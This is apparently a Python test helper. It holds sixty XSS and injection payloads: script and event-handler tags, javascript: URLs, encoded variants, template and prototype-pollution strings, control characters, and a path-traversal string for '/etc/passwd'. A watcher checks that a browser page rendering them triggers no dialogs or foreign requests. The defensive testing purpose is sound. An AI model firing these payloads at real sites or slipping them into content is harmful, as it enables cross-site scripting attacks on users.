"""Sixty texts that try to become more than text, and a watch over what a browser does with them.

Every one of them would, if anything let it, call ``alert``, set ``window.broken``, or ask a foreign address.
They are for the static page, notebooks and the server alike.

>>> len(PAYLOADS), len(set(PAYLOADS))
(60, 60)
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

FOREIGN = "http://foreign.invalid"
_RUN = "window.broken=1;alert(1)"
_ASK = f"{FOREIGN}/x"

PAYLOADS: tuple[str, ...] = (
    # tags that run something
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src={_ASK}.js></script>",
    f"<<script>script>{_RUN}<</script>/script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"</select></option><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"<img src={_ASK}.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"</text></svg><svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    "<iframe srcdoc='<script>parent.broken=1</script>'></iframe>",
    f"<iframe src={_ASK}></iframe>",
    f"<object data={_ASK}></object>",
    f"<embed src={_ASK}>",
    f"<link rel=stylesheet href={_ASK}.css>",
    f"<style>@import '{_ASK}.css';</style>",
    f"<meta http-equiv=refresh content='0;url={_ASK}'>",
    f"<base href={FOREIGN}/>",
    f"<form action={_ASK}><button autofocus>go</button></form>",
    # attributes, addresses, styles
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f"` onmouseover=`{_RUN}`",
    f"javascript:{_RUN}",
    f"  jAvAsCrIpT:{_RUN}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"{_ASK}?q=<script>{_RUN}</script>",
    f"red;background:url({_ASK})",
    # scripts, templates, other languages
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"${{{_RUN}}}",
    "{{7*7}}{{document}}{{script}}",
    '__proto__","constructor":{"prototype":{"broken":1}}',
    # characters that are no letters
    f"a\u2028{_RUN}\u2029",
    "\u202e\u2066<gnp.exe>\u2069\u202c",
    f"nul\0<script>{_RUN}</script>",
    f"\x1b]8;;{_ASK}\x07\x1b[31mred\x1b[0m\x9b31m",
    f"\r\n\r\n<script>{_RUN}</script>",
    f"\ufeff\u200b\ufffe<script>{_RUN}</script>",
    "%s%n%x../../../etc/passwd C:\\..\\con <\U0001f600>",
)


@dataclass
class Watched:
    """What a browser's page was seen to do."""

    page: Any
    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    @classmethod
    def over(cls, page: Any) -> Watched:
        """Watch this page from now on."""
        seen = cls(page)
        page.on("dialog", lambda dialog: (seen.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: seen.requests.append(request.url))
        page.on("console", lambda message: seen.complaints.append(message.text))
        page.on("pageerror", lambda error: seen.complaints.append(str(error)))
        return seen

    def assert_harmless(self, *own: str) -> None:
        """No dialog, no request but to ``own`` addresses, no script of a payload's, no complaint.

        Args:
            own: beginnings of the addresses that may be asked.
        """
        assert self.dialogs == []
        assert [url for url in self.requests if not url.startswith(own or ("about:", "data:"))] == []
        assert self.page.evaluate("window.broken") is None
        assert self.page.evaluate("({}).broken") is None
        assert self.complaints == []


def as_shown(text: str) -> str:
    """A payload as a token is shown: control characters and leading blanks have signs of their own.

    >>> as_shown("  a\\n\\0")
    '··a⏎␀'
    """
    lead = len(text) - len(text.lstrip("\t\n\x0b\x0c\r \u00a0\ufeff\u2028\u2029"))
    signs = {"\n": "⏎", "\t": "⇥"}
    return "".join(
        "·"
        if letter == " " and i < lead
        else signs.get(letter, chr(0x2400 + ord(letter)) if ord(letter) < 32 else letter)
        for i, letter in enumerate(text)
    )
